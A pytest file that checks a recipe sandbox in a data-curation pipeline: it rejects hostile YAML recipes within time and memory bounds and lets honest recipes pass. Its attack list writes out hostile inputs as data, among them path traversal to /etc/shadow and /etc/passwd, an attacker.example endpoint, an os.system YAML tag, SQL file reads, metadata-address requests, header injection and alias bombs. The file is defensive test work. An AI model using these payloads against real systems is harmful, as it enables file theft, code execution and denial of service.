"""Attacks by recipe x outcome: how each is answered, with time and memory bounds. And honest recipes, which pass."""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import yaml

from curate.api import load_recipe
from curate.core.recipe.load import parse
from curate.service.policy.rules import Rules
from curate.service.policy.sandbox import Outcome, Sandbox

PIPELINES = Path(__file__).parents[3] / "pipelines"
SECONDS, BYTES = 6.0, 200 << 20
"""Most CPU time and memory of an attack beyond those of an empty recipe."""


@dataclass(frozen=True)
class Attack:
    name: str
    recipe: str
    code: str
    """The first mistake's code."""
    said: str
    """Part of the message."""
    sets: tuple[str, ...] = ()
    secrets: tuple[str, ...] = field(default=("root:x:", "PRIVATE"))
    """Never in the answer."""


def _pool(path: str, more: str = "") -> str:
    return f"stages:\n  pool:\n    op: acquire.folder\n    namespace: a\n    path: {path}\n{more}"


def _stage(line: str) -> str:
    return _pool("photos", f"  a: {{{line}}}\n")


def _nested(first: str, more: str, count: int) -> str:
    return f"vars:\n  v0: {first}\n" + "".join(
        f"  v{i}: {more.replace('V', f'${{v{i - 1}}}')}\n" for i in range(1, count)
    )


ALIASES = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
MINE = "{mine: {base_urls: ['https://attacker.example/v1'], model: m, key: 'file:/etc/shadow'}}"
ASK = "op: caption.generate, from: pool"
NO_ROOT, BY_ADMIN = "is not below a registered root", "registered by an admin"

ATTACKS = [
    # files
    Attack("the whole disk", _pool("/"), "policy", NO_ROOT),
    Attack("up from a root", _pool("photos/../../etc"), "policy", "`..`"),
    Attack("up, by a variable", "vars: {up: ..}\n" + _pool("photos/${up}/etc"), "policy", "`..`"),
    Attack("up, by an override", _pool("photos"), "policy", "`..`", ("pool.path=photos/../../etc",)),
    Attack("up, by a pattern", _pool("'photos/{.,x}{.,x}/etc'"), "policy", "braces"),
    Attack("a link out of a root", _pool("photos/out"), "policy", "symbolic link"),
    Attack("a link that a pattern matches", "stages: {p: {op: acquire.parquet, namespace: a, path: 'photos/o*/x'}}",
           "policy", "symbolic link"),
    Attack("file://", _pool("file:///etc"), "policy", NO_ROOT),
    Attack("a URL in a URL", _pool("'simplecache::file:///etc'"), "policy", "`::`"),
    Attack("a home", _pool("~root"), "policy", "neither absolute"),
    Attack("the folder of the process", _pool("."), "policy", "neither absolute"),
    Attack("an address inside", _pool("http://169.254.169.254/latest"), "policy", NO_ROOT),
    Attack("a NUL", _pool(r'"/data\0/x"'), "policy", "control characters"),
    Attack("another workspace", _pool("/workspaces/secret/pools"), "policy", NO_ROOT),
    Attack("its own workspace", _pool("/workspaces/main/facts"), "policy", NO_ROOT),
    Attack("a workspace elsewhere", "workspace: s3://attacker/x\n" + _pool("photos"), "policy", "remove the line"),
    Attack("a file as a language model",
           _stage("op: text.language, from: pool, model: /etc/shadow"), "policy",
           "expected the name of a registered file"),
    Attack("a file as a vocabulary",
           _stage("op: text.vocabulary, from: pool, entries: /etc/shadow"), "policy", NO_ROOT),
    Attack("a file as a prompt", _stage(f"{ASK}, endpoints: llava, prompt: /etc/passwd.yaml"), "policy", BY_ADMIN),
    Attack("a stage's name as a path", "stages: {../../x: {op: image.inspect}}", "policy", "not a stage's name"),
    Attack("a pool's name as a path", _pool("photos").replace("namespace: a", "namespace: ../x"), "recipe", "letters"),
    Attack("a dataset's name as a path",
           _stage("op: pack.webdataset, from: pool, name: ../../x"), "recipe", "name"),
    # code
    Attack("a function", _stage("op: 'os:system', from: pool"), "policy", "not registered"),
    Attack("a class of ours by its module",
           _stage("op: 'curate.image.inspect:Inspect', from: pool"), "policy", "not registered"),
    Attack("a pickle", _stage("op: image.embed, from: pool, encoder: 'timm:resnet18@/data/x.pth'"), "policy", BY_ADMIN),
    Attack("a pickle, by an option",
           _stage("op: image.embed, from: pool, encoder: 'timm:resnet18?checkpoint_path=/data/x.pth'"), "policy",
           BY_ADMIN),
    Attack("any repository",
           _stage("op: image.embed, from: pool, encoder: 'timm:hf-hub:attacker/m'"), "policy",
           BY_ADMIN),
    Attack("code of a repository", _stage("op: image.embed, from: pool, encoder: 'hf:attacker/m'"), "policy", BY_ADMIN),
    Attack("a YAML tag", "a: !!python/object/apply:os.system [id]\n", "policy", "tags"),
    Attack("a server to start", _stage(f"{ASK}, endpoints: {{m: {{model: m, launch: {{server: vllm}}}}}}"), "policy",
           "mapping is not allowed"),
    Attack("SQL that reads a file",
           _stage("op: filter.where, from: pool, reason: x, keep: \"(select 1 from read_csv('/etc/passwd')) > 0\""),
           "recipe", "not allowed"),
    Attack("a function in SQL",
           _stage("op: filter.where, from: pool, reason: x, keep: \"read_csv('/etc/passwd') > 0\""),
           "recipe", "not allowed"),
    # secrets and networks
    Attack("an endpoint of the attacker with a file as its key", _stage(f"{ASK}, endpoints: {MINE}"), "policy",
           "mapping is not allowed"),
    Attack("endpoints from anywhere",
           _stage(f"{ASK}, endpoints: 'https://attacker.example/e.yaml'"), "policy", BY_ADMIN),
    Attack("endpoints from a readable root", _stage(f"{ASK}, endpoints: photos/e.yaml"), "policy", BY_ADMIN),
    Attack("a file as endpoints", _stage(f"{ASK}, endpoints: /etc/passwd"), "policy", BY_ADMIN),
    Attack("the environment", "vars: {v: '${oc.env:PATH}'}\n" + _pool("photos"), "recipe", "oc.env"),
    Attack("the environment, in two steps",
           "vars: {d: '$'}\n" + _pool("photos", "    caption_field: '${d}{oc.env:PATH}'\n"),
           "policy", "yields interpolation"),
    Attack("a resolver", "vars: {v: '${oc.decode:x}'}\n" + _pool("photos"), "policy", "no resolvers"),
    Attack("a secret where none belongs", _pool("photos", "    caption_field: file:/etc/shadow\n"), "recipe", "Secret"),
    Attack("private networks", _stage("op: acquire.download, list: pool, namespace: d, contact: a@b.cd, "
                                      "allow_networks: [10.0.0.0/8]"), "policy", BY_ADMIN),
    Attack("a proxy", _stage("op: acquire.download, list: pool, namespace: d, contact: a@b.cd, "
                             "proxy: 'http://127.0.0.1:8265'"), "policy", BY_ADMIN),
    Attack("a line in a header", _stage("op: acquire.download, list: pool, namespace: d, contact: a@b.cd, "
                                        'user_agent: "x\\r\\nHost: y"'), "recipe", "ASCII"),
    # size
    Attack("an alias bomb", ALIASES, "policy", "aliases"),
    Attack("an alias bomb in an override", _pool("photos"), "policy", "aliases", ("pool.path=[&a [x], *a]",)),
    Attack("a value that contains itself", "stages: &a {b: *a}\n", "policy", "aliases"),
    Attack("variables that double", _nested("xxxxxxxxxx", "'VV'", 40) + _pool("'${v39}'"), "too_large", "expand"),
    Attack("lists that double", _nested("[x]", "['V', 'V']", 18) + _pool("'${v17}'"), "too_large", "expand"),
    Attack("a chain of variables", _nested("x", "V", 2000) + _pool("photos"), "too_large", "refer to each other"),
    Attack("a circle of variables", "vars: {a: '${b}', b: '${a}'}\n" + _pool("photos"), "recipe", "refers to itself"),
    Attack("5 MB", _pool("x" * 5_000_000), "too_large", "at most"),
    Attack("5 MB in an override", _pool("photos"), "too_large", "at most", ("pool.path=" + "x" * 5_000_000,)),
    Attack("a million stages", "stages:\n" + "  s: {op: x}\n" * 1_000_000, "too_large", "at most"),
    Attack("many stages", "stages:\n" + "".join(f"  s{i}: {{op: image.inspect}}\n" for i in range(1000)), "too_large",
           "1,000 stages"),
    Attack("many values", "description: [" + "x," * 130_000 + "]\n", "too_large", "values"),
    Attack("deep lists", "[" * 200_000, "too_large", "levels deep"),
    Attack("deep mappings", "{a: " * 60_000, "too_large", "levels deep"),
    Attack("deep SQL",
           _stage(f"op: filter.where, from: pool, reason: x, keep: '{'(' * 4900}width{')' * 4900} > 0'"), "recipe",
           "keep"),
    Attack("a large integer", _pool("photos", f"    shard_rows: 0x{'f' * 200_000}\n"), "recipe", "64 bits"),
    Attack("half a character", _pool(r'"\ud800"'), "policy", "control characters"),
    Attack("not Unicode", _pool("\ud800"), "recipe", "Unicode"),
    Attack("no recipe", "\x00", "recipe", "not YAML"),
]  # fmt: skip


@pytest.fixture(scope="module")
def rules(tmp_path_factory: pytest.TempPathFactory) -> Rules:
    """A root with a link that leads out of it."""
    folder = tmp_path_factory.mktemp("data")
    (folder / "photos").mkdir()
    (folder / "photos" / "out").symlink_to("/etc")
    file = folder / "llava.yaml"
    file.write_text("llava: {base_urls: ['http://localhost:1/v1'], model: m, key: 'env:A_KEY_OF_WORKERS'}\n")
    endpoints = {"llava": str(file)}
    return Rules("main", "/workspaces/main", {"root": {"photos": str(folder / "photos")}, "endpoints": endpoints})


@pytest.fixture(scope="module")
def empty(sandbox: Sandbox, rules: Rules) -> Outcome:
    return sandbox.check("stages: {}", (), rules)


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_attack(sandbox: Sandbox, rules: Rules, empty: Outcome, attack: Attack) -> None:
    outcome = sandbox.plan(attack.recipe, attack.sets, rules)
    first = outcome.mistakes[0]
    assert (first["code"], attack.said in first["text"]) == (attack.code, True), first
    assert not any(secret in str(outcome) for secret in attack.secrets)
    assert (outcome.stages, outcome.plan, outcome.resolved) == ([], [], "")
    assert outcome.cpu_seconds - empty.cpu_seconds < SECONDS
    assert outcome.peak_bytes - empty.peak_bytes < BYTES


# --- honest recipes ---------------------------------------------------------------------------------------------------

SETS = {
    "recaption": (
        "images=photos",
        "endpoints=llava",
        "prompt=caption_long",
        "encoder=open_clip:ViT-B-32/laion2b_s34b_b79k",
    ),
    "openlvd": ("lists=[photos/dfn/*.parquet, photos/laion/*.parquet]", "contact=me@example.org"),
    "amoe_highres": ("shards=photos/sa1b/*.tar",),
    "video": ("videos=photos",),
    "url_list": ("list=photos/urls-{00..99}.parquet", "contact=me@example.org"),
}


@pytest.mark.parametrize("path", sorted(PIPELINES.glob("*.yaml")), ids=lambda path: path.stem)
def test_the_pipelines_pass(sandbox: Sandbox, rules: Rules, path: Path) -> None:
    sets = SETS.get(path.stem, ("images=photos",))
    outcome = sandbox.check(path.read_text(), sets, rules)
    assert outcome.mistakes == []
    _same(outcome, path, rules, sets)


def _same(outcome: Outcome, path: Path, rules: Rules, sets: tuple[str, ...]) -> None:
    """The resolved recipe builds the same stages as the file with its values written out."""
    photos, llava = rules.names("root")["photos"], rules.names("endpoints")["llava"]
    written = [re.sub(r"(?<=[=[ ])photos", photos, given).replace("=llava", f"={llava}") for given in sets]
    expected, job = load_recipe(path, written), parse(outcome.resolved)
    assert [stage["stage"] for stage in outcome.stages] == list(job.nodes) == list(expected.nodes)
    for name, node in expected.nodes.items():
        assert job.nodes[name].stage == node.stage
        assert (job.nodes[name].inputs, job.nodes[name].ports) == (node.inputs, node.ports)
    assert "${" not in outcome.resolved


def test_a_plan_asks_for_no_secret_of_the_workers(sandbox: Sandbox, rules: Rules) -> None:
    images = Path(rules.names("root")["photos"], "few")
    images.mkdir()
    for number in range(3):
        (images / f"{number}.png").write_bytes(b"not read by a plan")
    sets = ("images=photos/few", "endpoints=llava", "target=2", "levels=[2]")
    recipe = (PIPELINES / "recaption.yaml").read_text()
    outcome = sandbox.plan(recipe, sets, rules)
    assert outcome.mistakes == []
    lines = {line["stage"]: line for line in outcome.plan}
    assert lines["pool"]["needed"] == 3
    assert list(lines)[-1] == "report"


def test_what_a_plan_cannot_read_is_a_mistake(sandbox: Sandbox, rules: Rules) -> None:
    outcome = sandbox.plan(_pool("photos/missing"), (), rules)
    assert outcome.mistakes[0]["code"] == "input"
    assert (outcome.mistakes[0]["stage"], outcome.mistakes[0]["line"]) == ("pool", 2)


def test_mistakes_have_their_stage_and_line(sandbox: Sandbox, rules: Rules) -> None:
    recipe = _pool("/etc", "  other:\n    op: acquire.folder\n    namespace: b\n    path: /usr\n")
    found = sandbox.check(recipe, (), rules).mistakes
    assert [(one["stage"], one["line"]) for one in found] == [("pool", 5), ("other", 9)]
    found = sandbox.check(_pool("photos", "    shards: 3\n"), (), rules).mistakes
    assert [(one["code"], one["stage"], one["line"]) for one in found] == [("recipe", "pool", 6)]


def test_texts_that_look_like_numbers_stay_texts(sandbox: Sandbox, rules: Rules) -> None:
    recipe = "description: '1e3'\n" + _pool(
        "photos", "    caption_field: '1e3'\n    extensions: ['1', 'null', '2024-01-01']\n"
    )
    outcome = sandbox.check(recipe, (), rules)
    assert outcome.mistakes == []
    assert yaml.safe_load(outcome.resolved)["stages"]["pool"]["extensions"] == ["1", "null", "2024-01-01"]
    assert parse(outcome.resolved).nodes["pool"].stage.caption_field == "1e3"  # type: ignore[attr-defined]
